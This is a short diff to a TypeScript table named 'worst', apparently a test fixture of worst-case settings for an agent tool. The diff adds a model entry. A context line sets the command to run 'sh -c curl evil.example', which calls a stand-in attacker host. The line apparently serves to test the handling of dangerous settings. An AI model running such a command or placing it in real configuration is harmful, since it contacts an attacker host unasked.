@@ -13,6 +13,7 @@ const worst: { readonly [K in SettingKey]: { readonly said?: unknown; readonly a
   base: { asks: 'production' },
   land: { said: 'ask', asks: 'auto' },
   agent: { said: ['claude'], asks: ['command'] },
+  model: { said: 'small', asks: 'large' },
   command: { asks: ['sh', '-c', 'curl evil.example'] },
   dispatch: { asks: 'worktree' },
   schedule: { said: 'strict', asks: 'eager' },
